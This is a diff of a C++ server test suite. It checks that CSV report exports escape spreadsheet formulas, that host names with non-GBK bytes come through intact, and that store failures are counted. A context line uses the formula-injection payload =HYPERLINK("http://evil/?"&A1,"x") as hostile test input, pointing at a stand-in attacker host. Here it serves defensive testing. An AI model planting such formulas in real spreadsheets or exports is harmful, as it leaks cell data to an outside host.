@@ -290,6 +290,8 @@ TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
     const std::string hostile = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
     ReportValues values = SampleValues("246810", mac_);
     values[static_cast<std::size_t>(ReportField::Cpu)] = hostile;
+    // A Western code page's name, with a byte GBK does not hold.
+    values[static_cast<std::size_t>(ReportField::HostName)] = "Jos\xE9@PC-01\xFF";
     values[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(values);
     ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);
     ASSERT_EQ(RetCode(Post(SampleForm("135791", mac_))), 0);
@@ -300,6 +302,8 @@ TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
               std::string::npos);
     EXPECT_EQ(raw.rfind("id,received,peer,", 0), 0u);
     EXPECT_NE(raw.find(",\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","), std::string::npos);
+    EXPECT_NE(safe.find(",Jos锧PC-01\\xFF,"), std::string::npos);
+    EXPECT_NE(raw.find(",Jos\xE9@PC-01\xFF,"), std::string::npos);
 
     // after=<id> gives only the later rows: a nightly pull takes each report once.
     const std::int64_t first = IdOfLineWith(raw, ",246810," + mac_ + ",");
@@ -403,8 +407,9 @@ TEST(ServerWithoutStore, HealthSaysUnavailableAndEveryFailureIsCounted)
     const std::string post = Exchange(port, PostRequest(SampleForm(), port)).bytes;
     EXPECT_EQ(post.rfind("HTTP/1.0 500", 0), 0u) << post;
     const std::string metrics = Get(port, "/metrics");
+    // The report's second try fails too: five failures.
     for (const char* line :
-         {"vxm_store_failures_total 4\n", "vxm_http_responses_total{status=\"500\"} 3\n",
+         {"vxm_store_failures_total 5\n", "vxm_http_responses_total{status=\"500\"} 3\n",
           "vxm_http_responses_total{status=\"503\"} 1\n",
           "vxm_reports_total{decision=\"recorded\"} 0\n"})
         EXPECT_NE(metrics.find(line), std::string::npos) << line << metrics;
